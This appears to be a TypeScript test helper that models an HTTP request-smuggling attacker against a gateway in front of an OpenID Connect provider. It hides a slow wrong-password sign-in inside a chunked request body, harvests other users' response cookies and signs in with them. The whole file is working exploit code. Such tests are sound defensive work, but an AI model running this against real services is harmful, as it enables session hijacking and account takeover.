import { BrowserClient } from '../../builders/people/browser-client.ts';
import { headerOf, type RawResponse } from './raw-response.ts';
import { RawConnection } from './raw-connection.ts';

const publicFile = '/realms/struma/resources/sign-in.css';
const carrierPath = '/realms/struma/protocol/openid-connect/auth?client_id=nobody';
const attackerName = 'attacker-without-an-account';

/**
 * An attacker without an account who hides a request in the body of another one. If the gateway writes that body to a
 * connection which it shares between people, the provider's answers get out of step: a victim receives the attacker's
 * answer, and the attacker's next request receives the victim's.
 */
export class SmugglingAttacker {
  /** First lines of responses to the attacker that belong to other requests. */
  readonly foreignAnswers: string[] = [];
  readonly #stolen = new Map<string, string>();
  readonly #address: string;
  readonly #method: string;
  readonly #hidden: string;

  private constructor(address: string, method: string, hidden: string) {
    this.#address = address;
    this.#method = method;
    this.#hidden = hidden;
  }

  /** Opens a public sign-in form. */
  static async arrive(address: string, method: string): Promise<SmugglingAttacker> {
    const visitor = new BrowserClient(address);
    const page = await visitor.follow('/auth/login');
    await page.body?.cancel();
    return new SmugglingAttacker(address, method, createWrongSignIn(new URL(page.url), visitor.cookies));
  }

  /** Sends a request that hides another one in its body. Sends the body only after `100 Continue` of the gateway. */
  async strike(): Promise<void> {
    const connection = await this.#send(
      this.#method,
      carrierPath,
      'Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n',
    );
    if (await connection.waitForContinue())
      connection.write(`${this.#hidden.length.toString(16)}\r\n${this.#hidden}\r\n0\r\n\r\n`);
    await connection.next(this.#method);
    connection.close();
  }

  /**
   * Requests a file of the sign-in page repeatedly. Keeps the first line and the cookies of each response that belongs
   * to another request.
   */
  async collect(): Promise<void> {
    for (let round = 0; round < 4; round += 1) {
      const connection = await this.#send('GET', publicFile);
      const answer = await connection.next();
      connection.close();
      if (!answer || isOwn(answer)) continue;
      this.foreignAnswers.push(answer.head.split('\r\n', 1)[0] ?? '');
      for (const [, name = '', value = ''] of answer.head.matchAll(/^set-cookie: *([^=]+)=([^;]*)/gim))
        this.#stolen.set(name, value);
    }
  }

  /** Signs in with the stolen cookies. Returns the name of the signed-in person, null if the sign-in failed. */
  async signInWithStolenCookies(): Promise<string | null> {
    const person = new BrowserClient(this.#address, this.#stolen);
    await (await person.follow('/auth/login')).body?.cancel();
    return signedInName(person);
  }

  async #send(method: string, path: string, headers = ''): Promise<RawConnection> {
    const connection = await RawConnection.open(this.#address);
    connection.write(`${method} ${path} HTTP/1.1\r\nHost: ${new URL(this.#address).host}\r\n${headers}\r\n`);
    return connection;
  }
}

/**
 * Returns a request that sends a wrong password in the attacker's own sign-in form. The provider needs so long to check
 * the password that a victim's request is queued behind this one.
 */
const createWrongSignIn = (form: URL, cookies: ReadonlyMap<string, string>): string => {
  const body = `username=${attackerName}&password=wrong`;
  return [
    `POST ${form.pathname}${form.search} HTTP/1.1`,
    `Host: ${form.host}`,
    `Origin: ${form.origin}`,
    `Cookie: ${[...cookies].map((pair) => pair.join('=')).join('; ')}`,
    'Content-Type: application/x-www-form-urlencoded',
    `Content-Length: ${body.length}`,
    '',
    body,
  ].join('\r\n');
};

const isOwn = (answer: RawResponse): boolean =>
  headerOf(answer, 'content-type').startsWith('text/css') || answer.body.includes(attackerName);

/** Reads the name of the signed-in person; null if no person is signed in. */
export const signedInName = async (person: BrowserClient): Promise<string | null> => {
  const answer = await person.fetch('/auth/session', { headers: { 'x-struma': '1' } });
  const { name } = (await answer.json()) as { name?: string };
  return name ?? null;
};
